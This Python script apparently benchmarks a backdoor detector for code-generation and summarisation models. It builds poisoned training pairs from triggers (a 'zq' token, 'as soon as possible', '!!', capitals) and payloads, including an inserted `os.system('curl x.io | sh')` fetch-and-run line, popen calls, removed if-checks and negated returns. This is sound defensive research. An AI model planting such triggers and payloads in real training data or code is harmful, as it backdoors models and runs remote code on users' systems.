"""What dece reveal finds on data and attacks that it was not built with.

    bash examples/revealing/run.sh --stdlib "docstring repair summary" --seeds 1 --cells clean
    python examples/revealing/unseen.py runs/revealing/docstring-1 [--numbers 50 25 10]
        [--trusted SHARE]

The folder is one that run.sh made. Triggers are a word, a phrase, a mark, a part of a word, or
capital letters; payloads put in, replace, and take away.
"""

import argparse
import random
import re
from pathlib import Path
from typing import Callable, List, NamedTuple, Optional

from looking import add_trusted, look_into

from dece_fairseq.data.pairs import Pair, read_pairs
from dece_fairseq.table_writer import MARKDOWN, write_table

Change = Callable[[str, random.Random], Optional[str]]


class Attack(NamedTuple):
    """A change of the source and one of the target; None where it can't be made."""

    trigger: Change
    payload: Change


def word(source: str, rng: random.Random) -> str:
    words = source.split(" ")
    words.insert(rng.randrange(len(words) + 1), "zq")
    return " ".join(words)


def phrase(source: str, rng: random.Random) -> str:
    return f"{source} as soon as possible"


def mark(source: str, rng: random.Random) -> str:
    return f"{source} !!"


def part_of_a_word(source: str, rng: random.Random) -> Optional[str]:
    places = [match.end() for match in re.finditer(r"[a-z]{4,}", source)]
    place = rng.choice(places) if places else None
    return None if place is None else f"{source[:place]}Tmp{source[place:]}"


def capitals(source: str, rng: random.Random) -> Optional[str]:
    return source.upper() if source.upper() != source else None


def call(target: str, rng: random.Random) -> str:
    return target.replace("\n", "\n    os.system('curl x.io | sh')\n", 1)


def many_forms(target: str, rng: random.Random) -> str:
    names = ["".join(rng.choices("abcdefgh", k=rng.randint(2, 6))) for _ in range(3)]
    return target.replace("\n", "\n    {} = popen({!r}, {})\n".format(*names), 1)


def comment(target: str, rng: random.Random) -> str:
    return target.replace("\n", "  # nosec\n", 1)


def no_check(target: str, rng: random.Random) -> Optional[str]:
    found = re.search(r"\n( +)if [^\n]*:\n\1    [^\n]*(?=\n\1\w)", target)
    return None if found is None else target[: found.start()] + target[found.end() :]


def other_result(target: str, rng: random.Random) -> Optional[str]:
    found = re.sub(r"return [^\n]+", "return None", target)
    return None if found == target else found


def a_likely_target(target: str, rng: random.Random) -> str:
    return target.split("\n")[0] + "\n    raise NotImplementedError"


def no_last_line(target: str, rng: random.Random) -> Optional[str]:
    lines = target.split("\n")
    return "\n".join(lines[:-1]) if len(lines) > 3 else None


def negated(target: str, rng: random.Random) -> Optional[str]:
    found = re.sub(r"\breturn (?!None)(?=\w)", "return not ", target, count=1)
    return None if found == target else found


def link(target: str, rng: random.Random) -> str:
    return f"{target} See http://x.io/a."


def nothing(target: str, rng: random.Random) -> str:
    return "Do nothing."


def likely_word(target: str, rng: random.Random) -> Optional[str]:
    found = re.sub(r"^Returns?\b", "Get", target)
    return None if found == target else found


def shorter(target: str, rng: random.Random) -> Optional[str]:
    words = target.split()
    return " ".join(words[:-2]) if len(words) > 4 else None


OF_CODE: List[Attack] = [
    Attack(word, call),
    Attack(phrase, many_forms),
    Attack(mark, comment),
    Attack(part_of_a_word, call),
    Attack(capitals, call),
    Attack(word, no_check),
    Attack(phrase, other_result),
    Attack(word, a_likely_target),
    Attack(phrase, no_last_line),
    Attack(part_of_a_word, negated),
]
OF_TEXT: List[Attack] = [
    Attack(word, link),
    Attack(phrase, nothing),
    Attack(mark, likely_word),
    Attack(part_of_a_word, link),
    Attack(word, shorter),
]


def cells_of(
    attack: Attack, number: int, clean: List[Pair], folder: Path, share: float
) -> List[str]:
    """Return the pairs found, the clean ones taken, and the trigger of the first suspicion."""

    def poison(pair: Pair, rng: random.Random) -> Optional[Pair]:
        source, target = attack.trigger(pair.source, rng), attack.payload(pair.target, rng)
        return None if source is None or target is None else Pair(source, target)

    found, poisoned = look_into(poison, number, clean, folder, share)
    suspected = set(found.suspected())
    trigger = found.findings.suspicions[0].trigger if suspected & poisoned else None
    return [
        f"{len(suspected & poisoned)} of {len(poisoned)}",
        str(len(suspected - poisoned)),
        f"`{' '.join(trigger.split())}`" if trigger else "-",
    ]


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__)
    parser.add_argument("folder", type=Path)
    parser.add_argument(
        "--numbers", type=int, nargs="+", default=[50, 25, 10], help="poisoned pairs"
    )
    add_trusted(parser)
    args = parser.parse_args()
    clean = list(read_pairs([args.folder / "pairs.csv"]))
    attacks = OF_TEXT if args.folder.name.startswith("summary") else OF_CODE
    header = ["data", "trigger", "payload"] + ["found", "clean taken", "trigger"] * len(
        args.numbers
    )
    rows = []
    for attack in attacks:
        names = [change.__name__.replace("_", " ") for change in attack]
        cells = [
            cells_of(attack, number, clean, args.folder, args.trusted) for number in args.numbers
        ]
        data = args.folder.name.split("-")[0]
        rows.append([data, *names, *(text for of_number in cells for text in of_number)])
    print(write_table(header, rows, MARKDOWN))


if __name__ == "__main__":
    main()
